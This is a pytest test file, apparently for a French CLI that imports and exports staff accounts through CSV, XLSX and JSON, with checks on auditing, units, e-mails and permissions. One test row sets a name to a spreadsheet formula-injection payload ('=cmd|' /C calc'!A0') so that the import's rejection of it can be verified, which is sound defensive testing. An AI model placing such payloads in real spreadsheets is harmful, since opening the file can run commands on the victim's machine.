    texte = octets_csv([agent(1), agent(2, email="x"), agent(3), agent(4, email="y")]).decode()
    en_tete, *rangees = texte.split("\r\n")
    chemin.write_text(
        "\r\n".join([en_tete, rangees[0], "", ";;;;;;;", rangees[1], rangees[2], "", rangees[3]]),
        encoding="utf-8",
    )
    r, rapport = employeur.importer_json(chemin, "--create-unites")
    assert r.exit_code == 7
    assert {n: e["resultat"] for n, e in par_ligne(rapport).items()} == {
        2: "cree", 5: "rejete", 6: "cree", 8: "rejete",
    }  # fmt: skip


def test_json_output_is_the_whole_report_and_the_summary_leaves_stderr_quiet(employeur):
    chemin = ecrire_csv(employeur.fichier("agents.csv"), ACCENTUES)
    r, rapport = employeur.importer_json(chemin, "--create-unites")
    assert r.exit_code == 0
    assert set(rapport) == {
        "organisme_siret", "organisme_raison_sociale", "source", "simulation", "resume",
        "colonnes_inconnues", "colonnes_ignorees", "feuille", "ligne_entete", "unites_creees",
        "lignes",
    }  # fmt: skip
    assert rapport["organisme_siret"] == SIRET_EMPLOYEUR
    assert rapport["simulation"] is False
    assert rapport["unites_creees"] == ["Formation", "Ressources humaines"]
    assert [e["resultat"] for e in rapport["lignes"]] == ["cree"] * 3
    comptes = employeur.importes()
    assert {e["identifiant"] for e in rapport["lignes"]} == {
        c["identifiant"] for c in comptes.values()
    }
    assert r.stderr == ""


def test_the_table_summary_is_on_stderr_and_the_rows_on_stdout(employeur):
    chemin = ecrire_csv(employeur.fichier("agents.csv"), ACCENTUES)
    r = employeur.importer(chemin, "--create-unites")
    assert r.exit_code == 0
    assert "(CSV (UTF-8, séparateur « ; »)) : 3 créé(s)" in r.stderr
    assert "Unités créées : Formation, Ressources humaines." in r.stderr
    for compte in employeur.importes().values():
        assert compte["identifiant"] in r.stdout


def test_no_temporary_password_reaches_the_administrator(employeur):
    chemin = ecrire_csv(employeur.fichier("agents.csv"), ACCENTUES)
    rapport_csv = employeur.fichier("rapport.csv")
    sorties = [employeur.importer(chemin, "--create-unites", "--report", str(rapport_csv))]
    sorties.append(employeur.importer_json(chemin)[0])
    temporaires = tous_les_temporaires()
    assert len(temporaires) >= 3
    for temporaire in temporaires:
        for r in sorties:
            assert temporaire not in r.stdout and temporaire not in r.stderr
        assert temporaire not in rapport_csv.read_text(encoding="utf-8-sig")


def test_done_when_fifty_windows_1252_rows_three_bad_then_a_rerun_creates_nothing(employeur):
    lignes = agents(50, debut=100)
    lignes[4]["email"] = "jerome.dupre@@lumiere.example"  # line 6
    lignes[20]["telephone_mobile"], lignes[20]["telephone_fixe"] = "", ""  # line 22
    lignes[48]["nom"] = "=cmd|' /C calc'!A0"  # line 50
    chemin = ecrire_csv(
        employeur.fichier("agents.csv"), lignes, entetes=ENTETES_FRANCAIS, encodage="cp1252"
    )
    assert b"\xe9" in chemin.read_bytes()  # really Windows-1252: é is one byte
    rapport_csv = employeur.fichier("rapport.csv")

    r = employeur.importer(chemin, "--create-unites", "--report", str(rapport_csv))

    assert r.exit_code == 7, r.stderr
    assert "3 ligne(s) rejetée(s)" in r.stderr
    rapport = lire_csv(rapport_csv.read_bytes())
    rejets = {int(e["ligne"]): e["colonne"] for e in rapport if e["resultat"] == "rejete"}
    assert rejets == {6: "email", 22: "telephone_fixe/telephone_mobile", 50: "nom"}
    bonnes = [ligne for n, ligne in enumerate(lignes) if n not in (4, 20, 48)]
    comptes = employeur.importes()
    assert len(comptes) == 47
    assert noms(comptes) == attendus(bonnes)
    assert {c["prenom"] for c in comptes.values()} >= {"Hélène", "Zoé", "Gaëlle", "Françoise"}
    assert {c["nom"] for c in comptes.values()} >= {"Côté", "Müller", "Éluard"}
    crees = {e["identifiant"] for e in rapport if e["resultat"] == "cree"}
    assert crees == {c["identifiant"] for c in comptes.values()}

    r, second = employeur.importer_json(chemin, "--create-unites")
    assert r.exit_code == 7
    assert second["resume"] == {"crees": 0, "mis_a_jour": 0, "existants": 47, "rejetes": 3}
    assert employeur.importes() == comptes


# === 6. update, unités, e-mails and audit =======================================================
def test_on_existing_update_changes_the_fields_and_audits_only_what_changed(employeur):
    avant = [agent(n, unite="Paie", niveau_habilitation="consultation") for n in range(3)]
    employeur.importer_json(ecrire_csv(employeur.fichier("a.csv"), avant), "--create-unites")
    apres = [dict(ligne) for ligne in avant]
    apres[1].update(nom="Lefèvre-Durand", telephone_mobile="07 80 00 00 01", unite="Formation",
                    niveau_habilitation="gestion")  # fmt: skip
    chemin = ecrire_csv(employeur.fichier("b.csv"), apres)
    identifiant = employeur.importes()[avant[1]["email"]]["identifiant"]
    modifies = len(evenements(employeur.url, "compte_modifie"))

    r, rapport = employeur.importer_json(chemin, "--on-existing", "update", "--create-unites")

    assert r.exit_code == 0, rapport
    assert rapport["resume"] == {"crees": 0, "mis_a_jour": 3, "existants": 0, "rejetes": 0}
    assert rapport["unites_creees"] == ["Formation"]
    assert par_ligne(rapport)[3]["identifiant"] == identifiant
    compte = employeur.importes()[avant[1]["email"]]
    assert compte["identifiant"] == identifiant
    assert compte["nom"] == "Lefèvre-Durand"
    assert compte["telephone_mobile"] == "+33780000001"
    assert (compte["unite"], compte["niveau_habilitation"]) == ("Formation", "gestion")
    assert compte["role"] == "gestionnaire"
    evenements_modifies = evenements(employeur.url, "compte_modifie")
    assert len(evenements_modifies) == modifies + 1  # the two unchanged rows write no event
    dernier = evenements_modifies[-1]
    assert dernier["cible"] == identifiant and dernier["acteur"] == employeur.ap
    assert dernier["details"]["import"] is True
    assert dernier["details"]["avant"] == {
        "nom": "Lefèvre", "telephone_mobile": "+33600000001", "unite": "Paie",
        "niveau_habilitation": "consultation",
    }  # fmt: skip
    assert dernier["details"]["apres"] == {
        "nom": "Lefèvre-Durand", "telephone_mobile": "+33780000001", "unite": "Formation",
        "niveau_habilitation": "gestion",
    }  # fmt: skip
    assert employeur.console.json("audit", "verify", jeton=employeur.op)["valide"] is True


def test_granting_and_withdrawing_delegue_by_an_import_update_is_audited_as_such(employeur):
    """``gestionnaires update --delegue`` records ``delegue_attribue`` / ``delegue_retire``;
    an import that grants or withdraws the same right must be found by the same search
    (``audit list --action delegue_attribue``)."""
    lignes = [agent(1, administrateur_delegue="non"), agent(2, administrateur_delegue="oui")]
    employeur.importer_json(ecrire_csv(employeur.fichier("a.csv"), lignes), "--create-unites")
    comptes = employeur.importes()
    inverses = [
        dict(lignes[0], administrateur_delegue="oui"),
        dict(lignes[1], administrateur_delegue="non"),
    ]
    chemin = ecrire_csv(employeur.fichier("b.csv"), inverses)

    r, _ = employeur.importer_json(chemin, "--on-existing", "update")

    assert r.exit_code == 0
    comptes_apres = employeur.importes()
    assert comptes_apres[agent(1)["email"]]["role"] == "administrateur_delegue"
    assert comptes_apres[agent(2)["email"]]["role"] == "gestionnaire"
    attribues = [e["cible"] for e in evenements(employeur.url, "delegue_attribue")]
    retires = [e["cible"] for e in evenements(employeur.url, "delegue_retire")]
    assert comptes[agent(1)["email"]]["identifiant"] in attribues
    assert comptes[agent(2)["email"]]["identifiant"] in retires


def test_on_existing_update_refuses_a_suspended_account_and_what_the_actor_may_not_change(
    employeur, delegue
):
    lignes = [agent(1, administrateur_delegue="non"), agent(2, administrateur_delegue="oui")]
    employeur.importer_json(ecrire_csv(employeur.fichier("a.csv"), lignes), "--create-unites")
    comptes = employeur.importes()
    employeur.console.ok("gestionnaires", "suspend", comptes[agent(1)["email"]]["identifiant"],
                         jeton=employeur.jeton_ap)  # fmt: skip
    changees = [dict(ligne, nom="Nouveau") for ligne in lignes]
    changees[1]["administrateur_delegue"] = "non"
    chemin = ecrire_csv(employeur.fichier("b.csv"), changees)

    r, rapport = employeur.importer_json(chemin, "--on-existing", "update", jeton=delegue)

    assert r.exit_code == 7
    assert "réactivez-le" in par_ligne(rapport)[2]["raison"]
    assert par_ligne(rapport)[3]["resultat"] == "rejete"  # a délégué cannot touch another
    assert {c["nom"] for c in employeur.importes().values()} == {agent(1)["nom"], "Roux"}


def test_create_unites_creates_each_missing_unite_once_whatever_its_case(employeur):
    employeur.console.ok("unites", "add", "Formation", jeton=employeur.jeton_ap)
    lignes = [
        agent(1, unite="Paie"), agent(2, unite="PAIE"), agent(3, unite="paie"),
        agent(4, unite="formation"), agent(5, unite=" Paie "), agent(6, unite=""),
    ]  # fmt: skip
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes)

    r, rapport = employeur.importer_json(chemin)  # without --create-unites: rejected
    assert r.exit_code == 7
    assert {e["colonne"] for e in rapport["lignes"] if e["resultat"] == "rejete"} == {"unite"}
    assert rapport["resume"]["rejetes"] == 4

    assert employeur.importes()[agent(4)["email"]]["unite"] == "Formation"
    r, rapport = employeur.importer_json(chemin, "--create-unites")
    assert r.exit_code == 0, rapport
    assert rapport["unites_creees"] == ["Paie"]
    assert unites_en_base(employeur.url, SIRET_EMPLOYEUR) == ["Formation", "Paie"]
    comptes = employeur.importes()
    assert {comptes[ligne["email"]]["unite"] for ligne in lignes[:3]} == {"Paie"}
    assert comptes[agent(5)["email"]]["unite"] == "Paie"
    assert comptes[agent(6)["email"]]["unite"] is None
    creees = [e for e in evenements(employeur.url, "unite_creee") if e["details"].get("import")]
    assert [e["cible"] for e in creees] == ["Paie"]

    r, rapport = employeur.importer_json(chemin, "--create-unites")
    assert rapport["unites_creees"] == []
    assert len(evenements(employeur.url, "unite_creee")) == 2


def test_each_created_account_has_its_email_and_its_audit_event_and_the_chain_holds(employeur):
    lignes = agents(12, debut=200)
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes, entetes=ENTETES_FRANCAIS)
    eml_avant = len(courriels())

    r, rapport = employeur.importer_json(chemin, "--create-unites")

    assert r.exit_code == 0
    comptes = employeur.importes()
    destinataires = [m["To"] for m in courriels()]
    assert len(destinataires) == eml_avant + len(lignes)
    assert all(destinataires.count(ligne["email"]) == 1 for ligne in lignes)
    cree = {e["cible"]: e for e in evenements(employeur.url, "compte_cree")}
    for numero, ligne in enumerate(lignes, start=2):
        compte = comptes[ligne["email"]]
        evenement = cree[compte["identifiant"]]
        assert evenement["acteur"] == employeur.ap
        assert evenement["organisme"] == SIRET_EMPLOYEUR
        assert evenement["details"]["import"]["ligne"] == numero
        assert evenement["details"]["email"] == ligne["email"]
        assert par_ligne(rapport)[numero]["identifiant"] == compte["identifiant"]
    verification = employeur.console.json("audit", "verify", jeton=employeur.op)
    assert verification["valide"] is True

    employeur.importer_json(chemin, "--create-unites")  # a re-run sends nothing
    assert len(courriels()) == eml_avant + len(lignes)


def test_created_accounts_can_log_in_with_the_emailed_password(employeur):
    chemin = ecrire_csv(employeur.fichier("agents.csv"), [agent(1)])
    employeur.importer_json(chemin, "--create-unites")
    identifiant = employeur.importes()[agent(1)["email"]]["identifiant"]
    jeton = employeur.console.premiere_connexion(
        identifiant, agent(1)["email"], MOT_DE_PASSE_GESTIONNAIRE
    )
    moi = employeur.console.json("me", jeton=jeton)
    assert moi["identifiant"] == identifiant


# === 7. export =================================================================================
@pytest.fixture
def equipe(employeur):
    """The employer with imported agents: one délégué, unités, niveaux, both phones."""
    lignes = [agent(n) for n in range(6)] + [agent(7, nom="Lefèvre", prenom="Hélène")]
    chemin = ecrire_csv(employeur.fichier("equipe.csv"), lignes, entetes=ENTETES_FRANCAIS)
    r, _ = employeur.importer_json(chemin, "--create-unites")
    assert r.exit_code == 0
    return lignes


def test_export_is_csv_on_stdout_by_default_with_the_import_columns(employeur, equipe):
    r = employeur.console("gestionnaires", "export", jeton=employeur.jeton_ap)
    assert r.exit_code == 0, r.stderr
    assert "8 compte(s) exporté(s)." in r.stderr
    assert not r.stdout.startswith("\ufeff")
    lignes = lire_csv(r.stdout.encode())
    assert list(lignes[0]) == list(tableur.COLONNES_EXPORT)
    assert r.stdout.splitlines()[0] == ";".join(tableur.COLONNES_EXPORT)
    exportes = {e["email"]: e for e in lignes}
    helene = exportes[agent(7)["email"]]
    assert (helene["nom"], helene["prenom"]) == ("Lefèvre", "Hélène")
    assert helene["telephone_mobile"] == "06 00 00 00 07"  # national form, as typed
    assert helene["administrateur_delegue"] == "oui" and helene["role"] == "administrateur_delegue"
    assert exportes[agent(3)["email"]]["telephone_fixe"] == "01 43 00 00 03"
    assert exportes[ADRESSE_AP]["role"] == "administrateur_principal"
    assert {e["statut"] for e in lignes} == {"actif"}
    comptes = employeur.importes()
    for ligne in equipe:
        assert exportes[ligne["email"]]["identifiant"] == comptes[ligne["email"]]["identifiant"]
        assert exportes[ligne["email"]]["unite"] == ligne["unite"]
        assert exportes[ligne["email"]]["niveau_habilitation"] == ligne["niveau_habilitation"]


def test_export_to_a_csv_file_has_a_bom_for_excel(employeur, equipe):
    chemin = employeur.fichier("comptes.csv")
    r = employeur.console("gestionnaires", "export", "--fichier", str(chemin),
                          jeton=employeur.jeton_ap)  # fmt: skip
    assert r.exit_code == 0 and r.stdout == ""
    assert f"dans {chemin}." in r.stderr
    octets = chemin.read_bytes()
    assert octets.startswith(b"\xef\xbb\xbfidentifiant;nom;prenom;email;")
    assert len(lire_csv(octets)) == 8


def test_export_to_xlsx_is_a_real_workbook(employeur, equipe):
    chemin = employeur.fichier("comptes.xlsx")
    employeur.console.ok("gestionnaires", "export", "--fichier", str(chemin),
                         jeton=employeur.jeton_ap)  # fmt: skip
    lignes = lire_xlsx(chemin)
    assert list(lignes[0]) == list(tableur.COLONNES_EXPORT)
    exportes = {e["email"]: e for e in lignes}
    assert exportes[agent(7)["email"]]["prenom"] == "Hélène"
    assert exportes[agent(7)["email"]]["telephone_mobile"] == "06 00 00 00 07"
    assert len(lignes) == 8
    r = employeur.console("gestionnaires", "export", "--format", "xlsx", jeton=employeur.jeton_ap)
    assert r.exit_code == 7 and "--fichier" in erreur_en_une_ligne(r)


def test_export_as_json_and_ndjson(employeur, equipe):
    r = employeur.console("-o", "json", "gestionnaires", "export", jeton=employeur.jeton_ap)
    assert r.exit_code == 0
    en_json = json.loads(r.stdout)
    assert [list(e) for e in en_json] == [list(tableur.COLONNES_EXPORT)] * 8

    chemin = employeur.fichier("comptes.ndjson")
    employeur.console.ok("gestionnaires", "export", "--fichier", str(chemin),
                         jeton=employeur.jeton_ap)  # fmt: skip
    en_ndjson = [json.loads(t) for t in chemin.read_text(encoding="utf-8").splitlines()]
    assert en_ndjson == en_json

    r = employeur.console("gestionnaires", "export", "--format", "ndjson", jeton=employeur.jeton_ap)
    assert [json.loads(t) for t in r.stdout.splitlines()] == en_json
    r = employeur.console("gestionnaires", "export", "--format", "pdf", jeton=employeur.jeton_ap)
    assert r.exit_code == 7


def test_an_export_into_a_missing_folder_is_one_clear_line(employeur, equipe):
    chemin = employeur.fichier("absent/comptes.csv")
    r = employeur.console("gestionnaires", "export", "--fichier", str(chemin),
                          jeton=employeur.jeton_ap)  # fmt: skip
    assert r.exit_code == 7, (r.exit_code, r.stderr)
    assert "absent" in erreur_en_une_ligne(r)


def test_removed_accounts_are_exported_only_when_asked_for(employeur, equipe):
    comptes = employeur.importes()
    retire = comptes[agent(1)["email"]]["identifiant"]
    suspendu = comptes[agent(2)["email"]]["identifiant"]
    employeur.console.ok("gestionnaires", "remove", retire, "--yes", jeton=employeur.jeton_ap)
    employeur.console.ok("gestionnaires", "suspend", suspendu, jeton=employeur.jeton_ap)

    def exporter(*options):
        r = employeur.console("-o", "json", "gestionnaires", "export", *options,
                              jeton=employeur.jeton_ap)  # fmt: skip
        assert r.exit_code == 0, r.stderr
        return {e["identifiant"]: e["statut"] for e in json.loads(r.stdout)}

    tous = exporter()
    assert retire not in tous and tous[suspendu] == "suspendu" and len(tous) == 7
    assert exporter("--statut", "supprime") == {retire: "supprime"}
    assert exporter("--statut", "suspendu") == {suspendu: "suspendu"}
    assert set(exporter("--unite", "Paie")) == {
        comptes[ligne["email"]]["identifiant"] for ligne in equipe if ligne["unite"] == "Paie"
    }


def test_a_gestionnaire_may_not_export_and_gets_no_data(employeur, gestionnaire):
    r = employeur.console("gestionnaires", "export", jeton=gestionnaire)
    assert r.exit_code == 4
    assert "Un gestionnaire n'exporte pas les comptes de son organisme" in r.stderr
    erreur_en_une_ligne(r)  # one line on stderr, and not even a header row on stdout


def test_a_refused_export_leaves_an_existing_file_untouched(employeur, gestionnaire):
    chemin = employeur.fichier("precieux.csv")
    chemin.write_text("le travail d'une semaine\n", encoding="utf-8")
    r = employeur.console("gestionnaires", "export", "--fichier", str(chemin), jeton=gestionnaire)
    assert r.exit_code == 4
    assert chemin.read_text(encoding="utf-8") == "le travail d'une semaine\n"


def test_an_admin_exports_only_its_own_organisme(employeur, delegue):
    r = employeur.console("gestionnaires", "export", jeton=delegue)  # a délégué may
    assert r.exit_code == 0 and "marc.roux@lumiere.example" in r.stdout
    employeur.console.creer_organisme(employeur.op, SIRET_AUTRE, "Lumière Services")
    r = employeur.console("gestionnaires", "export", "--organisme", SIRET_AUTRE,
                          jeton=employeur.jeton_ap)  # fmt: skip
    assert r.exit_code == 4
    erreur_en_une_ligne(r)


def _sans_identite(lignes: list[dict[str, Any]]) -> set[tuple[Any, ...]]:
    """The rows as the import columns only (identifiant, rôle and statut differ by design)."""
    return {tuple("" if e[c] is None else str(e[c]) for c in COLONNES) for e in lignes}


@pytest.mark.parametrize("extension", ["csv", "xlsx", "json", "ndjson"])
def test_an_export_re_imports_into_another_organisme_unchanged(employeur, equipe, extension):
    employeur.console.ajouter(employeur.jeton_ap, "Garçon", "Noël", "noel@lumiere.example",
                              telephone="+262 692 12 34 56")  # fmt: skip
    chemin = employeur.fichier(f"comptes.{extension}")
    employeur.console.ok("gestionnaires", "export", "--organisme", SIRET_EMPLOYEUR,
                         "--fichier", str(chemin), jeton=employeur.op)  # fmt: skip
    employeur.console.creer_organisme(employeur.op, SIRET_AUTRE, "Lumière Services")

    r, rapport = employeur.importer_json(
        chemin, "--organisme", SIRET_AUTRE, "--create-unites", jeton=employeur.op
    )

    assert r.exit_code == 0, rapport
    assert rapport["colonnes_inconnues"] == []
    assert rapport["resume"]["crees"] == 9

    def exporter(siret):
        r = employeur.console("-o", "json", "gestionnaires", "export", "--organisme", siret,
                              jeton=employeur.op)  # fmt: skip
        return json.loads(r.stdout)

    assert _sans_identite(exporter(SIRET_AUTRE)) == _sans_identite(exporter(SIRET_EMPLOYEUR))
    origine = {(c["email"], c["telephone_fixe"], c["telephone_mobile"], c["unite"],
                c["niveau_habilitation"]) for c in employeur.importes().values()}  # fmt: skip
    copie = {(c["email"], c["telephone_fixe"], c["telephone_mobile"], c["unite"],
              c["niveau_habilitation"]) for c in employeur.importes(SIRET_AUTRE).values()}  # fmt: skip
    assert copie == origine
    assert unites_en_base(employeur.url, SIRET_AUTRE) == unites_en_base(
        employeur.url, SIRET_EMPLOYEUR
    )


@pytest.mark.parametrize(
    "telephone",
    ["+590 690 00 10 00", "+596 696 12 34 56", "+262 692 12 34 56", "+508 55 12 34",
     "+687 75 12 34", "+689 87 12 34 56", "+681 72 12 34"],
    ids=["guadeloupe", "martinique", "reunion", "saint-pierre", "nouvelle-caledonie",
         "polynesie", "wallis-et-futuna"],
)  # fmt: skip
def test_an_exported_overseas_phone_re_imports_as_the_same_number(employeur, telephone):
    """Accepted numbers must survive export → import: the national form of a Pacific number
    ("75.12.34") is no French number at all, or another territory's."""
    employeur.console.ajouter(employeur.jeton_ap, "Garçon", "Noël", "noel@lumiere.example",
                              telephone=telephone)  # fmt: skip
    stocke = employeur.importes()["noel@lumiere.example"]["telephone_mobile"]
    chemin = employeur.fichier("comptes.csv")
    employeur.console.ok("gestionnaires", "export", "--organisme", SIRET_EMPLOYEUR,
                         "--fichier", str(chemin), jeton=employeur.op)  # fmt: skip
    employeur.console.creer_organisme(employeur.op, SIRET_AUTRE, "Lumière Services")

    r, rapport = employeur.importer_json(chemin, "--organisme", SIRET_AUTRE, jeton=employeur.op)

    assert r.exit_code == 0, rapport
    assert employeur.importes(SIRET_AUTRE)["noel@lumiere.example"]["telephone_mobile"] == stocke
